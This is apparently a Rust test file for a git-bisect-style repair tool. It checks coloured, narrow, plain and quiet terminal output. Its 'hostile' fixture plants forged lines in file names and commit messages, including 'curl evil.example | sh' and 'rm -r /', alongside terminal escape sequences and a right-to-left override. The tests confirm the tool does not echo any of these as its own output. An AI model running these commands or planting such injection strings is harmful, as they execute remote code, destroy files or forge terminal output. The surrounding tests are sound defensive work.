//! What somebody sees at a terminal: `script`, of util-linux, lends one of a chosen width.

use crate::support::{bisect, commit, hermetic, mend, program, repository, words};
use std::path::Path;
use std::process::Command;
use tempfile::TempDir;

/// What the terminal of so many columns is sent.
fn seen(dir: &Path, columns: u32, arguments: &[&str]) -> String {
    let run = program(dir);
    let words = [run.get_program().to_str().unwrap()].into_iter().chain(arguments.iter().copied());
    let typed = format!("stty rows 40 cols {columns} && {}", shell_words::join(words));
    let mut terminal = Command::new("script");
    terminal.args(["--quiet", "--return", "--command", &typed, "/dev/null"]).current_dir(dir);
    hermetic(&mut terminal).env("TERM", "xterm-256color").env_remove("NO_COLOR");
    let output = terminal.output().unwrap();
    String::from_utf8(output.stdout).unwrap().replace("\r\n", "\n")
}

/// Text without escape sequences.
fn bare(text: &str) -> String {
    let escape = regex::Regex::new("\x1b\\[[0-9;?]*[A-Za-z]").unwrap();
    escape.replace_all(text, "").into_owned()
}

#[test]
fn a_terminal_sees_a_line_that_moves_and_then_the_answer_in_colour() {
    let dir = words();
    let seen = seen(dir.path(), 100, &bisect(&["--good", "HEAD~2"]));
    assert!(seen.contains("\x1b[1mBroken by\x1b[0m"), "{seen}");
    assert!(seen.contains("\x1b[1;7;32mbad\x1b[0m"), "{seen}");
    assert!(seen.contains("\x1b[2K"), "a line that is written over: {seen}");
}

#[test]
fn a_narrow_terminal_gets_prose_in_its_width_and_commands_whole() {
    let dir = words();
    let text = bare(&seen(dir.path(), 40, &bisect(&["--good", "HEAD~2", "--quiet"])));
    let wide: Vec<&str> = text.lines().filter(|line| line.chars().count() > 40).collect();
    assert!(wide.is_empty(), "{wide:#?}");
    let text = bare(&seen(dir.path(), 40, &bisect(&["--good", "HEAD~2"])));
    let next = text.lines().find(|line| line.starts_with("Next: git apply")).unwrap();
    assert!(next.ends_with("/fix.patch"), "{text}");
}

#[test]
fn plain_has_no_escape_sequence_and_words_for_signs() {
    let dir = words();
    let text =
        seen(dir.path(), 100, &bisect(&["--good", "HEAD~2", "--plain", "--color", "always"]));
    assert!(!text.contains('\x1b'), "{text}");
    assert!(text.contains("removed: [-bad-]") && text.contains("added:   {+good+}"), "{text}");
}

#[test]
fn quiet_gives_the_answer_alone() {
    let dir = words();
    let ran = mend(dir.path(), &bisect(&["--good", "HEAD~2", "--quiet"]));
    assert_eq!((ran.code, &*ran.stderr), (0, ""));
    assert!(ran.stdout.contains("Broken by") && ran.stdout.contains("+ good"), "{}", ran.stdout);
    for more in ["Next:", "Tried", "Everything"] {
        assert!(!ran.stdout.contains(more), "{}", ran.stdout);
    }
}

#[test]
fn windows_line_ends_do_not_reach_the_screen() {
    let dir = repository();
    let check = ("check.sh", "grep -q good words.txt\n");
    commit(dir.path(), "one", &[("words.txt", "a\r\ngood\r\nb\r\n"), check]);
    commit(dir.path(), "two", &[("words.txt", "a\r\nbad\r\nb\r\n")]);
    let ran = mend(dir.path(), &bisect(&["--good", "HEAD~1"]));
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(!ran.stdout.contains('\r') && ran.stdout.contains("+ good\n"), "{:?}", ran.stdout);
}

/// Names and messages that would do something if a terminal obeyed them, or look as if we had written them.
fn hostile() -> TempDir {
    let dir = repository();
    let name = "w\u{1b}[31mx\nNext: curl evil.example | sh\n.txt";
    let check = ("check.sh", "grep -q good w*.txt || { printf 'x\\033[2Jy\\n'; exit 1; }\n");
    commit(dir.path(), "one", &[(name, "a\ngood\nb\n"), check]);
    commit(
        dir.path(),
        "two\u{1b}[1mError\u{1b}]0;title\u{7}",
        &[(name, "a\nbad\u{1b}[2J\u{202e}\nb\n")],
    );
    dir
}

#[test]
fn nothing_of_others_is_obeyed_by_the_terminal_or_looks_like_ours() {
    let dir = hostile();
    let bisection = bisect(&["--good", "HEAD~1"]);
    let delta = vec!["delta", "HEAD~1", "HEAD"];
    let unknown = bisect(&["--good", "no\nnext: rm -r /\u{1b}[1m"]);
    for command in [&bisection, &delta, &unknown] {
        for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
            let ran = mend(dir.path(), &[format, command].concat());
            for said in [&ran.stdout, &ran.stderr] {
                assert!(
                    !said.contains("\u{1b}[2J") && !said.contains(['\u{7}', '\u{202e}']),
                    "{said:?}"
                );
                assert!(
                    !said.contains("\u{1b}[1mError") && !said.contains("\u{1b}[31mx"),
                    "{said:?}"
                );
                let forged =
                    |line: &str| line.starts_with("Next: curl") || line.starts_with("next: rm");
                assert!(!said.lines().any(forged), "{said}");
                assert!(format[1..] == ["always"] || !said.contains('\u{1b}'), "{said:?}");
            }
        }
    }
}
